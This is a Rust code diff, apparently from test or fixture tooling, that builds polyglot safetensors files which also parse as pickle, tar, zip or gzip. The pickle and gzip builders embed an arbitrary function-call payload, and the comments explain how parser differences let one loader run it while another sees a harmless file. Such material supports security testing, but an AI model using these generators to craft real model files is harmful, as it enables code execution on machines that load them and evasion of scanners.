@@ -818,9 +818,24 @@ impl BitWriter {
 /// # Panics
 /// If `module`, `name` or `arg` contain newlines or quotes, or make the tail too long.
 pub fn pickle_polyglot(module: &str, name: &str, arg: &str) -> Vec<u8> {
+    pickle_polyglot_after(b"", module, name, arg)
+}
+
+/// [`pickle_polyglot`] with `prelude` in the tensor data before the payload: an opcode only one
+/// of CPython's unpicklers accepts (`F 1.5 \n`, a memo key over 64 bits, a `FRAME` longer than
+/// the file), so that the other stops there and only it runs the payload. With a prelude that
+/// ends the pickle early (a `GLOBAL` line running to the end of the file), the payload can be
+/// empty: `module` `""`.
+///
+/// # Panics
+/// As [`pickle_polyglot`].
+pub fn pickle_polyglot_after(prelude: &[u8], module: &str, name: &str, arg: &str) -> Vec<u8> {
     const HEADER_LEN: usize = 0x554;
     assert!(![module, name, arg].iter().any(|s| s.contains(['\n', '\'', '"', '\\'])));
-    let payload = format!("c{module}\n{name}\n(S'{arg}'\ntR.").into_bytes();
+    let mut payload = prelude.to_vec();
+    if !module.is_empty() {
+        payload.extend_from_slice(format!("c{module}\n{name}\n(S'{arg}'\ntR.").as_bytes());
+    }
     let k = payload.len();
     let tail = format!("\":{{\"dtype\":\"U8\",\"shape\":[{k}],\"data_offsets\":[0,{k}]}}}}");
     // Name starts at byte 10; ten full hops of 128 bytes, then a final hop of 80 bytes that
@@ -872,6 +887,18 @@ pub fn hdf5_polyglot(at: usize) -> Vec<u8> {
 /// one tensor's name covers bytes 100..345 with octal mode/uid/gid/size/mtime/devmajor/devminor
 /// fields, a checksum that matches, and type flag `0`.
 pub fn tar_polyglot() -> Vec<u8> {
+    // Six octal digits and two spaces (JSON cannot hold the NUL tar writers put there; tarfile
+    // strips the spaces).
+    tar_polyglot_spelled(|sum| format!("{sum:06o}  "))
+}
+
+/// [`tar_polyglot`] with the checksum field (8 bytes) spelled by `spell` from the sum, e.g.
+/// `0o12345 `, `+0123456`, `012_3456`: spellings `tarfile.nti` accepts (`int(x, 8)` after
+/// `str.strip()`).
+///
+/// # Panics
+/// If `spell` does not return 8 printable ASCII bytes.
+pub fn tar_polyglot_spelled(spell: impl Fn(u32) -> String) -> Vec<u8> {
     let data = vec![0x42u8; 64];
     // Name characters from byte 10 to byte 600 of the file; fields written at file offsets.
     let mut name = vec![b'a'; 590];
@@ -897,8 +924,129 @@ pub fn tar_polyglot() -> Vec<u8> {
     };
     let draft = build(&name);
     let sum: u32 = draft[..512].iter().map(|&b| u32::from(b)).sum();
-    // Six octal digits and two spaces (JSON cannot hold the NUL tar writers put there; tarfile
-    // strips the spaces). The sum counts the field as spaces, so writing it changes nothing.
-    name[148 - 10..156 - 10].copy_from_slice(format!("{sum:06o}  ").as_bytes());
+    // The sum counts the field as spaces, so writing it changes nothing.
+    let field = spell(sum);
+    assert!(field.len() == 8 && field.bytes().all(|b| (0x20..0x7f).contains(&b) && b != b'"' && b != b'\\'));
+    name[148 - 10..156 - 10].copy_from_slice(field.as_bytes());
     build(&name)
+}
+
+/// A valid safetensors file whose tensor data ends with a zip archive (`archive/data.pkl`,
+/// stored) at its own file offsets, followed by `trailing` bytes that belong to neither. The
+/// end record sits `trailing` + 22 bytes from the end: with `trailing` between 65,537 and about
+/// 69,600, torch's zip reader (miniz) finds it and Python's `zipfile` does not.
+pub fn zip_polyglot_trailing(trailing: usize) -> Vec<u8> {
+    let archive = zip(&[("archive/data.pkl", b"\x80\x02}q\x00."), ("archive/version", b"3\n")]);
+    let build = |header_len: usize| {
+        let data_len = archive.len() + trailing;
+        let mut header =
+            format!("{{\"blob\":{{\"dtype\":\"U8\",\"shape\":[{data_len}],\"data_offsets\":[0,{data_len}]}}}}");
+        while header.len() < header_len {
+            header.push(' ');
+        }
+        header
+    };
+    let header = build(0);
+    let header = build(header.len().next_multiple_of(8));
+    let base = 8 + header.len();
+    // Offsets relative to the file, where miniz reads them (zipfile computes its own).
+    let mut rebased = archive.clone();
+    let eocd = rebased.windows(4).rposition(|w| w == b"PK\x05\x06").expect("an end record");
+    let cd = u32::from_le_bytes(rebased[eocd + 16..eocd + 20].try_into().expect("4 bytes")) as usize;
+    rebased[eocd + 16..eocd + 20].copy_from_slice(&((cd + base) as u32).to_le_bytes());
+    let mut at = cd;
+    while rebased[at..at + 4] == *b"PK\x01\x02" {
+        let field = |o: usize| usize::from(u16::from_le_bytes([rebased[at + o], rebased[at + o + 1]]));
+        let (n, x, c) = (field(28), field(30), field(32));
+        let local = u32::from_le_bytes(rebased[at + 42..at + 46].try_into().expect("4 bytes")) as usize;
+        rebased[at + 42..at + 46].copy_from_slice(&((local + base) as u32).to_le_bytes());
+        at += 46 + n + x + c;
+    }
+    let mut file = with_header(&header);
+    file.extend_from_slice(&rebased);
+    file.extend(std::iter::repeat_n(b't', trailing));
+    file
+}
+
+/// A valid safetensors file that is also a gzip stream joblib decompresses and unpickles: the
+/// header length is `1f 8b 08 00` (559,903 bytes); MTIME is bytes 4-7, XFL the `{`, OS the `"`
+/// of the only key, and the deflate stream starts in the key as *stored* blocks whose 5-byte
+/// headers (`' '`, LEN, NLEN) are valid UTF-8. The blocks' contents are the JSON itself, read as
+/// a pickle UNICODE line; the final block, in the tensor data, ends that line and carries
+/// `c{module}\n{name}\n(S'{arg}'\ntR.`. The gzip trailer is valid.
+///
+/// # Panics
+/// If the arguments contain newlines or quotes.
+pub fn gzip_polyglot(module: &str, name: &str, arg: &str) -> Vec<u8> {
+    assert!(![module, name, arg].iter().any(|s| s.contains(['\n', '\'', '"', '\\'])));
+    const HEADER_LEN: usize = 0x0008_8b1f;
+    // LEN values whose bytes are printable ASCII and whose complements (NLEN) form one two-byte
+    // UTF-8 character (C3..DF then 80..BF: never a C1 control).
+    let lens: Vec<usize> = (0x40..0x7Fusize)
+        .filter(|&hi| hi != 0x5C)
+        .flat_map(|hi| (0x20..0x3Dusize).filter(|&lo| lo != 0x22).map(move |lo| hi << 8 | lo))
+        .collect();
+    let final_content = [b"\n0".as_slice(), format!("c{module}\n{name}\n(S'{arg}'\ntR.").as_bytes()].concat();
+    let data_len = 5 + final_content.len() + 8;
+    let closing = format!("\":{{\"dtype\":\"U8\",\"shape\":[{data_len}],\"data_offsets\":[0,{data_len}]}}}}       ");
+    // Blocks of 5 + LEN bytes from file offset 10 to the end of the header.
+    let total = 8 + HEADER_LEN - 10;
+    let blocks = stored_tiling(&lens, total, closing.len());
+    let mut header = b"{\"".to_vec();
+    let mut content = Vec::new();
+    for (i, &len) in blocks.iter().enumerate() {
+        header.extend_from_slice(&[0x20, len as u8, (len >> 8) as u8, !(len as u8), !((len >> 8) as u8)]);
+        let mut body = vec![b'a'; len];
+        if i == 0 {
+            body[0] = b'V'; // UNICODE: its line runs to the newline in the final block
+        }
+        if i == blocks.len() - 1 {
+            body[len - closing.len()..].copy_from_slice(closing.as_bytes());
+        }
+        header.extend_from_slice(&body);
+        content.extend_from_slice(&body);
+    }
+    assert_eq!(header.len(), HEADER_LEN);
+    content.extend_from_slice(&final_content);
+    let mut file = (HEADER_LEN as u64).to_le_bytes().to_vec();
+    file.extend_from_slice(&header);
+    let n = final_content.len() as u16;
+    file.push(0x01);
+    file.extend_from_slice(&n.to_le_bytes());
+    file.extend_from_slice(&(!n).to_le_bytes());
+    file.extend_from_slice(&final_content);
+    file.extend_from_slice(&crc32(&content).to_le_bytes());
+    file.extend_from_slice(&(content.len() as u32).to_le_bytes());
+    file
+}
+
+/// Stored-block lengths from `lens` whose blocks (5 + LEN bytes each) tile `total` bytes, the
+/// last at least `last_min` long.
+fn stored_tiling(lens: &[usize], total: usize, last_min: usize) -> Vec<usize> {
+    let (min, max) = (lens[0], lens[lens.len() - 1]);
+    let closest = |x: usize| *lens.iter().min_by_key(|&&v| v.abs_diff(x)).expect("lens");
+    for k in 2..10_000usize {
+        if total < k * (5 + min) {
+            break;
+        }
+        if total > k * (5 + max) {
+            continue;
+        }
+        let mut out = Vec::new();
+        let mut remaining = total;
+        for i in 0..k - 2 {
+            let v = closest(remaining / (k - i) - 5);
+            out.push(v);
+            remaining -= 5 + v;
+        }
+        for &v in lens {
+            if let Some(last) = remaining.checked_sub(10 + v) {
+                if last >= last_min && lens.binary_search(&last).is_ok() {
+                    out.extend([v, last]);
+                    return out;
+                }
+            }
+        }
+    }
+    panic!("no tiling of {total} bytes");
 }
